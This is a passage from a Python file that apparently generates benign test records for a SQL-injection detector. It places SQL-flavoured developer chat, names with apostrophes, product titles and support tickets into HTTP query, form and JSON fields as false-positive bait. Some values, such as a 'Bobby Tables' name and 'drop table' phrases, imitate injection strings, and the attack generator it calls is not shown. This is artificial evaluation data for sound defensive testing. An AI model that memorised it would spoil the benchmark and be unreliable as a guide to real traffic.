    "why does `WHERE name LIKE '%son'` not use the index? because of the leading wildcard, use a trigram index",
    "sqlalchemy generates `SELECT users.id AS users_id, users.name AS users_name FROM users WHERE users.id = ?` "
    "which is fine",
    "reminder: the read replica lags ~2s, so SELECT right after INSERT may miss the row",
    "`BEGIN; DELETE FROM sessions WHERE expires_at < now(); COMMIT;` runs nightly via cron, 1-2 seconds",
    "found it: the ORM did `SELECT ... WHERE id IN ()` with an empty list, mysql chokes on that",
    "for the dashboard: SELECT date_trunc('day', created_at) AS d, sum(total) FROM orders GROUP BY 1 ORDER BY 1;",
    "the UNION ALL of both shards is faster than UNION because it skips the de-dup sort",
    "anyone remember the syntax? `INSERT INTO tags (name) VALUES ('x') ON CONFLICT (name) DO NOTHING;`",
    "mysql equivalent is `INSERT IGNORE` or `ON DUPLICATE KEY UPDATE count = count + 1`",
    "information_schema.columns is handy: SELECT column_name, data_type FROM information_schema.columns "
    "WHERE table_name = 'orders';",
    "pg_stat_statements says the top query is the session lookup, 38% of total time",
    "the DBA asked us to stop using `SELECT *` in the reporting jobs",
    "sleep(5) in the retry loop is too long, let's back off 0.5, 1, 2 seconds instead",
    "CI broke because sqlite doesn't support `ALTER TABLE ... DROP COLUMN` before 3.35",
    "the charset issue: table is latin1, app sends utf8mb4, emoji get mangled -> ALTER TABLE ... "
    "CONVERT TO CHARACTER SET utf8mb4",
    "I added `CREATE INDEX CONCURRENTLY idx_orders_user ON orders (user_id);` so no lock on the table",
    "can we drop the old `users_backup_2021` table? nobody has queried it in a year",
    "T-SQL: `WAITFOR DELAY` is what the job uses between batches, it's intentional",
    "psql: \\dt lists tables, \\d+ orders shows the columns and indexes",
    "pro tip: COALESCE(nickname, first_name, 'friend') for the greeting line",
    "the window function version: ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY created_at DESC) AS rn",
    "we hit the 'too many connections' limit, max_connections is 151 by default on mysql",
    "the bug was `WHERE status = 'active' OR status = 'trial' AND plan = 'pro'` - missing parentheses!",
    "unit tests use an in-memory sqlite (`sqlite:///:memory:`), prod is postgres 15",
    "GRANT SELECT ON reporting.* TO 'metabase'@'10.0.%' is what the analytics user needs, nothing more",
    "the CTE version reads better: WITH recent AS (SELECT * FROM orders WHERE created_at > '2024-01-01') "
    "SELECT count(*) FROM recent;",
    "does anyone know why `SELECT 0.1 + 0.2 = 0.3` is true in postgres numeric but not in float8?",
    "backup restore took 42 min: pg_restore -j 4 -d app dump.custom",
    "Oracle's NVL(x, 0) is COALESCE in everything else",
    "let's use `LIMIT 100 OFFSET 200` for now and switch to keyset pagination later",
    "reviewed the PR, the raw query is parameterised with :user_id so we're good on injection",
    "the MERGE statement on SQL Server 2019 has that weird race, use UPDATE then INSERT with HOLDLOCK",
    "`SELECT version();` on the new cluster says PostgreSQL 16.2, upgrade went fine",
    "heads up: the `orders_archive` partition for 2022 is being detached tonight",
    "what's the collation on the customers table? 'Müller' and 'Muller' sort differently than expected",
    "EXPLAIN shows 'Using where; Using filesort' - we need a composite index on (tenant_id, created_at)",
    "random sample for QA: SELECT * FROM products ORDER BY random() LIMIT 20;",
    "in SQLite booleans are just 0/1, so `WHERE is_active` works but `= true` needs 3.23+",
    "the 1=1 in `WHERE 1=1 AND ...` is just so the query builder can append AND clauses",
    "stored proc returns -1 when the account is locked and 0 otherwise",
]

DOC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://dev.mysql.com/doc/refman/8.0/en/json-search-functions.html",
    "https://mariadb.com/kb/en/union/",
    "https://www.postgresql.org/docs/current/sql-select.html",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://www.postgresql.org/docs/16/sql-copy.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/functions/cast-and-convert-transact-sql?view=sql-server-ver16",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-catalog-views/sys-objects-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/sqlrf/SELECT.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/sqlrf/DECODE.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.sqlite.org/pragma.html#pragma_table_info",
    "https://www.sqlite.org/json1.html",
    "https://use-the-index-luke.com/sql/partial-results/fetch-next-page",
    "https://stackoverflow.com/questions/1066453/mysql-group-by-and-order-by",
    "https://stackoverflow.com/questions/332365/how-does-the-sql-injection-from-the-bobby-tables-xkcd-comic-work",
    "https://xkcd.com/327/",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://docs.sqlalchemy.org/en/20/core/tutorial.html",
    "https://www.psycopg.org/docs/usage.html#passing-parameters-to-sql-queries",
    "https://github.com/sqlite/sqlite/blob/master/src/select.c",
    "https://wiki.postgresql.org/wiki/Don%27t_Do_This",
    "https://modern-sql.com/feature/filter",
]

PROSE = [
    "orders between 10 and 20 dollars",
    "take 1 or 2 per day with food",
    "users who signed up after 2023-01-01 and before 2023-06-30",
    "select the best option for your team",
    "union square cafe",
    "drop table delivery",
    "O'Brien",
    "D'Angelo Russell",
    "Mary-Kate O'Neil",
    "the 'select' plan vs the 'union' plan",
    "price > 100 and rating >= 4",
    "either Monday or Tuesday, whichever is sooner",
    "1 = yes, 0 = no",
    "why is my insert so slow",
    "how to order by date in excel",
    "delete my account",
    "sleep tracker with 5 min alarm",
    "where is my order #10443?",
    "ID 7741; replacement part",
    "smith; jones; o'hara",
    "between you and me",
    "Null hypothesis vs alternative",
    "database administrator jobs london",
    "update shipping address for order 5521",
    "from 9 to 5, and sometimes until 7",
    "12\" x 18\" poster frame",
    "Rock 'n' Roll Hall of Fame",
    "\"quoted search\" -excluded",
    "2 for 1 deal -- today only",
    "cats & dogs",
    "version 2.1 or later",
    "the table is 6' long and 30\" wide",
    "having trouble logging in",
    "group by department please",
    "char broiled burger",
    "exec summary Q3",
    "ascii art generator",
    "benchmark results for the new laptop",
    "case study: how we cut costs by 30%",
    "declare bankruptcy chapter 7",
    "grant application deadline",
    "select committee on energy",
    "1=1 math worksheet for kids",
    "or else what?",
    "and/or",
    "it's 50/50",
    "top 10 restaurants near me",
    "user_id 4821",
    "name: Zoë D'Souza-Smith",
    "I'd like to cancel; please confirm",
    "Mr. & Mrs. O'Connor",
    "is null the same as empty?",
    "count me in!",
    "sum of all fears",
    "max 3 items per customer",
    "Sleep Number bed",
    "convert 5 ft 11 in to cm",
    "substring of a word puzzle",
    "if you can't attend, let us know by Friday",
    "order by phone: 555-0142",
    "load of laundry",
    "the waitfor scene in the movie",
    "concat meaning",
    "pg 13 movies",
    "T-shirt size M/L",
    "Rows 1-25 of 300",
    "-- no comment --",
    "hex key set 1.5 mm - 10 mm",
    "Ben & Jerry's",
    "Dunkin' Donuts",
]

PRODUCTS = [
    "Samsung 55\" QLED 4K TV",
    "2x4 stud, 8' long",
    "Levi's 501 Original Fit Jeans",
    "Trader Joe's Everything but the Bagel seasoning",
    "USB-C to USB-C cable, 6 ft; 100W",
    "iPad Pro 12.9\" (6th gen) - 256GB - Space Gray",
    "Dr. Martens 1460 boots, size 9 1/2",
    "Kid's \"Select-a-Size\" paper towels, 6 rolls",
    "1/4\" drive socket set (3/16\" - 9/16\")",
    "\"Union\" work boots by Red Wing",
    "Table saw 10\" w/ 30\" rip capacity",
    "Hershey's Kisses; milk chocolate; 10.8 oz",
    "Lenovo ThinkPad X1 Carbon Gen 11 -- i7, 32GB",
    "Men's Pima cotton T-shirt (2-pack)",
    "Nike Air Max 90 'Infrared'",
    "Case of 24 x 16.9 fl oz water bottles",
    "Drop-leaf table, seats 2-4",
    "Sleep mask, 100% mulberry silk",
    "Cat 6 ethernet cable 50 ft",
    "Order-Up! kitchen timer",
    "Ben & Jerry's Half Baked, 1 pint",
    "Screws #8 x 1-1/4\" (100 count)",
    "Harry Potter & the Philosopher's Stone (1st ed.)",
    "Hex bolt M8 x 1.25 x 40mm",
    "Char-Broil 3-burner gas grill",
    "Ninja Foodi 6.5 qt; pressure cooker & air fryer",
    "Mother's Day card -- \"Best Mom Ever\"",
    "Update kit for model 2.0 or later",
    "Benchmark 12\" ruler, stainless",
    "Null-modem serial cable, DB9 F/F",
    "Bose QuietComfort 45 (black) - open box",
    "\"Exec\" leather chair, high-back",
    "Apple AirTag 4 pack",
    "Dell 27\" monitor (S2721DGF) 1440p/165Hz",
    "Grant's 12 year whisky, 750ml",
    "SELECT grade beef, 2 lb",
    "Nature's Bounty vitamin D3 1000 IU",
    "Shelf bracket 8\"x10\" - pack of 2",
    "Crocs Classic Clog; unisex; size M7/W9",
    "1 or 2 person tent, 3-season",
]

PRODUCT_DESCRIPTIONS = [
    "Fits doors 1-3/8\" to 1-3/4\" thick; backset 2-3/8\" or 2-3/4\".",
    "Holds between 10 and 20 lbs. Don't exceed the max load!",
    "Made in the USA; ships in 1-2 business days.",
    "Choose 'Small' or 'Large' at checkout -- not both.",
    "Compatible with iPhone 12/13/14; won't fit the 'Pro Max' models.",
    "Includes: 1 x charger, 1 x cable (3'), user's manual.",
    "Rated 4.5/5 by 1,200+ customers. \"Best purchase ever\" - Sam O.",
    "Water-resistant to 50 m; not for diving.",
    "Set of 6 -- 2 red, 2 blue & 2 green.",
    "Dimensions: 24\"W x 18\"D x 30\"H; weight 22 lb.",
    "Fits 26\" to 29\" wheels; tire width 1.9\"-2.4\".",
    "Pack of 12 -- select any 3 flavours, mix & match.",
    "Warranty: 2 years (parts) / 1 year (labour); see 'Terms' tab.",
    "Use 1 or 2 scoops per 8 oz of water; don't exceed 4 per day.",
    "Not for children under 3 -- small parts.",
    "Supports MySQL 8.0, PostgreSQL 13+ and SQLite 3.35 or later.",
    "Table top is 1-1/2\" solid oak; legs are powder-coated steel.",
    "Sold by the foot; order 10 for a 10' run.",
    "Ships from Sam's warehouse; delivery between 3 and 5 days.",
    "Size chart: S = 36-38, M = 39-41, L = 42-44 (inches).",
]

ADDRESSES = [
    "221B Baker St, London NW1 6XE",
    "1600 Pennsylvania Ave NW, Washington, DC 20500",
    "Apt. 4-B, 350 Fifth Avenue; New York, NY 10118",
    "Unit 12/34 O'Connell Street, Sydney NSW 2000",
    "c/o Smith & Sons, PO Box 101, Austin TX 78701",
    "Flat 3, 12 St. John's Rd., Oxford OX2 6UD",
    "1 Infinite Loop, Cupertino, CA 95014",
    "Rue de l'Université 7, 75007 Paris",
    "Av. Paulista, 1578 - Bela Vista, São Paulo - SP, 01310-200",
    "Straße des 17. Juni 135, 10623 Berlin",
    "#5-201, 3-chōme, Shibuya-ku, Tokyo 150-0002",
    "Building 4, Floor 2; Dock Rd, Dublin D02 X285",
    "12 Union St, Aberdeen AB11 6BH",
    "PO Box 1 or 2 -- either works",
    "Mile 12 Old Sterling Hwy (between the bridge and the gas station)",
    "Route 66 & Main, Suite 100",
    "Casa 3, Calle 45 #12-34, Bogotá",
    "Lot 7; Selectman's Lane, Concord MA 01742",
    "1 Drop Zone Rd, Eloy, AZ 85131",
    "Ward 5, Bed 12, St Mary's Hospital",
]

PEOPLE = [
    "Seán O'Sullivan",
    "Miles O'Brien",
    "Jean-Luc Picard",
    "Mary-Jane Watson-Parker",
    "D'Arcy McGee",
    "Ngũgĩ wa Thiong'o",
    "Anne-Marie Dupont-Leclerc",
    "Robert'); (Bobby) Tables",
    "Dwayne \"The Rock\" Johnson",
    "O'Neil-Smythe, Patrick",
    "Ma'ayan Levi",
    "Zoë Saldaña",
    "Ka'ahumanu",
    "Al-Hassan ibn Ali",
    "van der Berg, Lotte",
    "Null, Christopher",
    "Jennifer Select",
    "Tom Union",
    "Mr. Sleep",
    "Chloë Grace Moretz",
    "Dr. Li Na; MD, PhD",
    "Karl-Heinz Müller",
    "Ó Súilleabháin",
    "N'Golo Kanté",
    "Beyoncé Knowles-Carter",
    "Delete, Anna",
    "Shaquille O'Neal",
    "Jo-Ann D'Amico",
    "Conan O'Brien",
    "Lupita Nyong'o",
    "Marie-Thérèse d'Aubigny",
    "Dell'Olio, Francesca",
    "Hamish McTavish-O'Hara",
    "L'Oréal Paris (account)",
    "Sinéad O'Connor",
    "Smith-Jones, J.R.",
]

SEARCHES = [
    "mysql vs postgres",
    "how to join two tables",
    "select all that apply",
    "union jack flag",
    "order by date desc",
    "where to buy 'organic' coffee",
    "insert coin arcade",
    "update windows 11",
    "delete facebook account",
    "drop shipping business",
    "create table from excel",
    "sleep 8 hours or 7",
    "count to 10 in spanish",
    "null pointer exception java",
    "1 or 2 bedroom apartment",
    "between 500 and 1000 sq ft",
    "laptop under $1,000",
    "shoes size 10-11",
    "red OR blue dress",
    "\"exact phrase\" search tips",
    "movies like 'inception'",
    "tv 55\" or 65\"",
    "rating >= 4 stars",
    "price < 20",
    "cheap flights nyc -> lax",
    "c# string.format",
    "python f-string vs %s",
    "sql where clause with and or",
    "having vs where sql",
    "what is information schema",
    "sqlite vs postgres for small apps",
    "oracle cloud free tier",
    "how to use like in sql with wildcard",
    "postgres jsonb query examples",
    "mysql benchmark tool",
    "excel concat two columns",
    "char vs varchar",
    "group by multiple columns",
    "waitfor delay in sql server",
    "case when multiple conditions",
]

TICKETS = [
    "Hi, I was charged twice for order #48213 on 3/14 -- once $29.99 and again $29.99. Please refund one.",
    "The app says 'Invalid input' when my last name has an apostrophe (O'Reilly). Can you fix it?",
    "Can't log in since the update; I tried 2 or 3 times and now I'm locked out.",
    "My package shows delivered but I don't have it. Tracking: 1Z999AA10123456784",
    "Please change my email from jo.ann@example.com to joann.d@example.org; thanks!",
    "The export to CSV drops rows where the name contains a semicolon, e.g. \"Acme; Inc\".",
    "Dashboard is slow -- takes 20-30 seconds to load between 9am and 10am.",
    "Report shows 'NULL' in the phone column for about 1 in 10 customers.",
    "Our invoices select the wrong tax rate (8.25% instead of 8.875%) for NY orders.",
    "Feature request: let us sort by 'last updated' or 'created', newest first.",
    "I deleted a project by mistake yesterday around 4 pm; can you restore it?",
    "Discount code SPRING-20 doesn't apply to items over $100 -- is that intended?",
    "The search for \"union\" returns nothing, but we have a customer called Union Bank.",
    "Order 55120: the 10' ladder arrived bent. Want a replacement, not a refund.",
    "Error on checkout: 'Something went wrong (code 1064)'. Screenshot attached.",
    "Hi team - quick q: is the limit 5 or 10 users on the starter plan?",
    "Printer prints 1/2 page then stops; model LJ-400, firmware 2.3.1",
    "The 'Drop-off' location list is empty for ZIP 94107.",
    "Can I merge my two accounts? Old: mike_s, new: mike.smith -- both mine.",
    "Password reset email never arrives; checked spam; domain is o'brien-law.ie",
    "We need an admin role that can update but not delete records. Possible?",
    "Timezone is off by 1 hour since DST -- meetings show 10:00 instead of 9:00.",
    "The table on page 2 overlaps the footer in Safari 17.",
    "I want to cancel my subscription at the end of the term, not now.",
    "Bulk import fails at row 1,204 -- the value is 12\" and I think the quote breaks it.",
    "Hello, the filter 'price between 10 and 20' also shows a $25 item. Bug?",
    "Our DBA says the nightly job holds a lock for 5-10 minutes; can you move it to 3am?",
    "Where do I find the order history older than 12 months? The list stops at page 40.",
    "I typed my address as 'Apt #3; 2nd floor' and the label printed only 'Apt #3'.",
    "Please delete all my data per GDPR Art. 17 -- account: anna.k@example.com",
    "Select-all checkbox on the users page selects only the first 50 rows.",
    "The API returns 500 when the product name has a double quote (\"Deluxe\" edition).",
    "Hi, can I upgrade from 1 seat to 3 mid-month or do I wait for renewal?",
]

UNITS = [
    "5 ft 11 in",
    "180 cm / 75 kg",
    "12.5\" x 9\"",
    "3/4 cup sugar; 1 1/2 tsp salt",
    "65 mph",
    "2-3 mg per kg, twice a day",
    "1,500 sq ft",
    "100-240V ~ 50/60Hz",
    "0.5 mm - 1.0 mm",
    "72°F (22°C)",
    "1e6 requests per day",
    "3.5e-3 mol/L",
    "-40 to +85 °C",
    "6' 2\"",
    "10% off orders > $50",
    "1 or 2 tablets every 4-6 hours",
    "between 10 and 20 minutes",
    "4 x 100 m relay",
    "1TB SSD, 16GB RAM",
    "500 ml = 16.9 fl oz",
    "0x00FF00 (green)",
    "ISO 8601: 2024-06-21T10:00:00Z",
    "~2.5 h",
    "1/8\" to 1/2\"",
    "99.9% uptime",
    "1 in. = 2.54 cm",
    "0.25\" thick, 4' x 8' sheet",
    "12V DC; 2A max; 5.5 x 2.1 mm plug",
    "-0.5 dB to +3 dB",
    "1-2 cups/day",
    "Top speed 0-60 in 3.1 s",
]


def _benign(kind: str, i: int, text: str) -> dict[str, Any]:
    """`text` where a user of kind `kind` would type it: rotating over a query parameter, a form field and a JSON
    field of a route that takes it."""
    slot = i % 3
    if kind == "product":
        if slot == 0:
            return _get(_query("/api/products", [("q", text), ("page", "1")]))
        if slot == 1:
            return _form("/admin/products/edit", [("csrf_token", "t0k3n"), ("title", text), ("price", "19.99")])
        return _json("/api/products", {"title": text, "price": 19.99, "currency": "USD"})
    if kind == "description":
        if slot == 0:
            return _json("/api/products/77", {"description": text, "in_stock": True})
        if slot == 1:
            return _form("/admin/products/edit", [("csrf_token", "t0k3n"), ("description", text)])
        return _json("/api/reviews", {"product_id": 77, "rating": 5, "body": text})
    if kind == "address":
        if slot == 0:
            return _json("/api/orders", {"items": [{"sku": "A-1", "qty": 1}],
                                         "shipping": {"line1": text, "country": "US"}})
        if slot == 1:
            return _form("/admin/customers/address", [("csrf_token", "t0k3n"), ("address", text)])
        return _get(_query("/api/stores", [("near", text)]))
    if kind == "person":
        if slot == 0:
            return _json("/api/users", {"name": text, "email": "someone@example.org"})
        if slot == 1:
            return _get(_query("/api/users", [("q", text), ("page", "1")]))
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", text)])
    if kind == "search":
        if slot == 0:
            return _get(_query("/api/search", [("q", text)]))
        if slot == 1:
            return _get(_query("/api/search", [("q", text), ("sort", "relevance"), ("limit", "20")]))
        return _json("/api/search", {"query": text, "filters": {"lang": "en"}})
    if kind == "ticket":
        if slot == 0:
            return _json("/api/tickets", {"subject": "Help", "body": text, "priority": "normal"})
        if slot == 1:
            return _form("/admin/tickets/reply", [("csrf_token", "t0k3n"), ("message", text)])
        return _json("/api/tickets/881/comments", {"comment": text})
    # units
    if slot == 0:
        return _get(_query("/api/products", [("q", text)]))
    if slot == 1:
        return _json("/api/profile", {"notes": text})
    return _form("/admin/users/notes", [("csrf_token", "t0k3n"), ("notes", text)])


BENIGN_KINDS: dict[str, list[str]] = {
    "product": PRODUCTS, "description": PRODUCT_DESCRIPTIONS, "address": ADDRESSES, "person": PEOPLE,
    "search": SEARCHES, "ticket": TICKETS, "units": UNITS,
}


def benign() -> Iterator[dict[str, Any]]:
    for rec in chat_and_bio(DEV_SQL, "eleventh-devsql"):
        yield {**rec, "sub": "devsql"}
    for rec in links_and_prose(DOC_URLS, PROSE, "eleventh-ben", 0):
        yield {**rec, "sub": "link" if "-url-" in rec["id"] else "prose"}
    n = 0
    for kind, texts in BENIGN_KINDS.items():
        for i, text in enumerate(texts):
            n += 1
            rec = _benign(kind, i, text)
            ctype = rec["headers"].get("Content-Type", "")
            place = "query" if rec["method"] == "GET" else "json" if "json" in ctype else "form"
            yield {**rec, "id": f"eleventh-ben-{kind}-{n:04d}", "category": "benign", "sub": kind,
                   "placement": place}


if __name__ == "__main__":
    print_records(attacks(), benign())
